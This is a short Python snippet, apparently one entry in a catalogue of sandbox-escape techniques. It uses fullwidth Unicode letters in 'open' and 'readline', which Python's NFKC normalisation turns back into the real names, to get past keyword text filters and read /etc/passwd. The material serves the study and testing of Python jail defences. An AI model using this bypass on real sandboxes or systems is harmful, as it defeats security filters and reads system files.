# escape: 131
# technique: NFKC-normalised identifiers defeat text filters
# family: syntax
# goal: read-file
# first-seen: ImaginaryCTF pygolf; PEP 3131
s = ｏｐｅｎ('/etc/passwd').ｒeadline()
if 'root:' in s: print('ESCAPED:nfkc')
